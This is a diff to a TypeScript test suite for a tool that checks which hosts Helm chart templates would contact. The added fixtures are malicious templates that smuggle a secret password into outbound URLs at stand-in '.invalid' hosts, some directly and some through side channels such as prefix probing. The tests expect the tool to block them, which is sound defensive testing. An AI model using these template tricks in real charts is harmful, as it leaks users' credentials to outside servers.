@@ -142,9 +142,53 @@ describe.for(HELMS.slice(-1))('addresses that charts name, with Helm $version', 
     expect(asked).toEqual([]);
   });
 
+  test.each<[string, Record<string, string>]>([
+    [
+      'hides it from the other templates',
+      {
+        'templates/a/b/c/d.yaml': `{{ $_ := set .Values "was" .Values.password }}{{ $_ := set .Values "password" "x" }}`,
+        'templates/a.yaml': application('a', 'https://x-{{ .Values.was }}.invalid'),
+      },
+    ],
+    [
+      'says that the address was given',
+      {
+        'templates/a/b/c/d.yaml': `{{ if .Values.password }}{{ $_ := set .Values "given" "https://charts.invalid" }}{{ end }}`,
+        'templates/a.yaml': application('a', 'https://charts.invalid/{{ .Values.password }}'),
+      },
+    ],
+    [
+      'fails without it, and has the address among its defaults',
+      {
+        'values.yaml': 'address: https://charts.invalid\n',
+        'templates/a.yaml': `{{ $_ := required "it" .Values.password }}\n${application('a', '{{ .Values.address }}/{{ .Values.password }}')}`,
+      },
+    ],
+    [
+      'tells it by those that are not asked',
+      {
+        'templates/a.yaml': `{{ range $c := list "r" "s" "t" "u" }}{{ if not (hasPrefix $c $.Values.password) }}\n---\n${application('a', 'https://{{ $c }}.charts.invalid')}\n{{ end }}{{ end }}`,
+      },
+    ],
+    [
+      'waits for an upgrade',
+      {
+        'templates/a.yaml': `{{ if .Release.IsUpgrade }}\nimage: x\n---\n${application('a', 'https://{{ .Values.password }}.invalid')}\n{{ end }}`,
+      },
+    ],
+  ])('are not asked when the chart %s', async (_, templates) => {
+    const result = await search(templates, { secrets: 'password: swordfish9\n' });
+    expect(new Set(codes(result))).toEqual(new Set(['forbidden']));
+    expect(result.askedHosts).toBeUndefined();
+    expect(asked).toEqual([]);
+  });
+
   test('are asked when the values only switch them on, or name them', async () => {
     const switched = `{{ if .Values.enabled }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
-    const one = await search({ 'templates/a.yaml': switched }, { secrets: 'enabled: true\npassword: swordfish9\n' });
+    const one = await search(
+      { 'templates/a.yaml': switched },
+      { secrets: 'enabled: true\nother: no\nkey: ""\npassword: swordfish9\n' },
+    );
     expect(one.askedHosts).toEqual([{ host: 'charts.invalid:443', charts: ['inner'] }]);
     const chosen = `{{ if eq .Values.mode "full" }}\n${application('a', 'https://charts.invalid/x')}\n{{ end }}\n`;
     const two = await search({ 'templates/a.yaml': chosen }, { set: ['mode=full'] });
